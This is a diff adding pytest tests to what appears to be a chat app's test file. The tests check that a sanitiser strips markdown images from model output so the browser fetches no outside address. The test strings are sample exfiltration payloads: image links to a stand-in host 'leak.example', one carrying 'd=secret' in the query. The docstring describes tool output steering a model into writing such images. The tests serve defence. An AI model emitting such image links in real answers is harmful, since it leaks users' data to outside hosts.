@@ -139,3 +139,28 @@ def test_import_rejects_bad_json_clearly():
 
 
 # A stop mid-stream (Streamlit's own stop request, the real model) is tested in test_catch_page.py.
+
+
+@pytest.mark.parametrize("text", [
+    "Here: ![chart](https://leak.example/p.png?d=secret) done",
+    "![a][ref] and more\n\n[ref]: https://leak.example/r.png",
+    "nested [![b](https://leak.example/n.png)](https://x.example)",
+    "a line\n![c](//leak.example/proto-relative.png)",
+])
+def test_the_models_markdown_makes_no_image(text):
+    """A model led by a tool's or the kernel's output to write an image would make the user's browser fetch any
+    address as the answer renders: checked with a CommonMark parser (HTML is off in st.markdown)."""
+    from markdown_it import MarkdownIt
+
+    from pages._shared import no_images
+
+    rendered = MarkdownIt("commonmark").render(no_images(text))
+    assert "<img" not in rendered, rendered
+    assert "leak.example" in rendered  # the text stays readable
+
+
+def test_no_images_leaves_code_as_written():
+    from pages._shared import no_images
+
+    text = "Run `print('![x](y)')` or:\n```python\nprint(\"![z](q)\")\n```\n~~~\n![t](u)\n~~~"
+    assert no_images(text) == text
